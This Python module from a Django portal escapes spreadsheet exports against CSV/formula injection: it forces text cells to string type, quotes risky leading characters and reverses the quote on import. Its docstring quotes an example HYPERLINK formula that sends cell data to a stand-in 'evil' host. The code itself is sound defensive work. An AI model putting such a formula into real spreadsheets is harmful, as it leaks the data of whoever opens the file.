"""Spreadsheets that are safe to open (CSV/formula injection, OWASP).

A citizen types the titles and texts that staff later open in Excel. A cell
whose text begins with = + - @ (or a tab or carriage return) is read by
spreadsheet programs as a formula: `=HYPERLINK("http://evil/?"&A1, "点击")`
sends the row to a stranger, and DDE payloads run programs. So every text cell
the portal writes is text, never a formula:

- in .xlsx, a text cell is forced to the string type (openpyxl otherwise turns
  any "=..." into a formula);
- and, as OWASP recommends for CSV, a text beginning with one of those
  characters is prefixed with a single quote, so the cell stays inert when the
  sheet is saved as CSV or pasted elsewhere.

Numbers, dates and booleans are written as they are. `unescape` undoes the
quote on import, so a spreadsheet exported and imported again is unchanged.

Every spreadsheet export goes through `write_rows` (hand-written exports) or
`SafeModelResource` (django-import-export resources in the admin).
"""
from __future__ import annotations

from collections.abc import Iterable, Sequence

from django.core.exceptions import FieldDoesNotExist
from django.http import HttpResponse
from django.utils.functional import Promise
from django.utils.text import capfirst
from django.utils.translation import gettext_lazy as _
from import_export import resources, widgets
from import_export.forms import SelectableFieldsExportForm

from lib.text import xml_safe

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def permissions(model_name: str) -> list[tuple[str, str]]:
    """A model's spreadsheet permissions, for its Meta.permissions. django-import-export
    asks for them (IMPORT_EXPORT_IMPORT_PERMISSION_CODE = "import", ..._EXPORT_... = "export")
    and the roles grant them to platform administrators only (org/roles.py)."""
    return [(f"import_{model_name}", _("Can import from a spreadsheet")),
            (f"export_{model_name}", _("Can export to a spreadsheet"))]


def escape(value):
    """The value to write in a cell: text that could start a formula gets a leading quote, and the control
    characters no cell can hold are dropped (openpyxl refuses them, and the whole export failed)."""
    if isinstance(value, str):
        value = xml_safe(value)
        if value.startswith(FORMULA_PREFIXES):
            return "'" + value
    return value


def unescape(value):
    """Undo `escape` on a value read back from a spreadsheet the portal wrote."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def write_rows(sheet, rows: Iterable[Sequence], header: Sequence | None = None) -> None:
    """Append an optional header and the rows to an openpyxl worksheet, every text as text."""
    if header is not None:
        _append(sheet, header)
    for row in rows:
        _append(sheet, row)


def _append(sheet, row: Sequence) -> None:
    sheet.append([escape(str(v)) if _is_text(v) else v for v in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            # openpyxl guesses a formula from a leading "="; a text cell is never one.
            cell.data_type = "s"


def _is_text(value) -> bool:
    # Lazy translations (column titles) are text too.
    return isinstance(value, (str, Promise))


def xlsx_response(book, filename: str):
    """An HTTP download of an openpyxl workbook."""
    response = HttpResponse(content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    book.save(response)
    return response


class SafeModelResource(resources.ModelResource):
    """A django-import-export resource whose exports are safe to open in every format
    (CSV, XLSX, ODS...): text fields are escaped as in `escape`, and unescaped on import."""

    def export_field(self, field, instance, **kwargs):
        value = super().export_field(field, instance, **kwargs)
        if isinstance(field.widget, widgets.NumberWidget):
            return value  # "-3" from a number column is a number, not a formula
        return escape(value)

    def before_import_row(self, row, **kwargs):
        super().before_import_row(row, **kwargs)
        for key, value in row.items():
            row[key] = unescape(value)


class LabelledExportForm(SelectableFieldsExportForm):
    """The admin's export page with each column's checkbox named by the model field's verbose name ("编码"):
    django-import-export (4.x, `_get_field_label`) titles the attribute name ("Code"), which no catalog reaches."""

    def _get_field_label(self, resource, field_name: str) -> str:
        field = resource.fields.get(field_name)
        try:
            model_field = resource._meta.model._meta.get_field(field.attribute if field else field_name)
        except FieldDoesNotExist:
            return super()._get_field_label(resource, field_name)
        return capfirst(model_field.verbose_name)
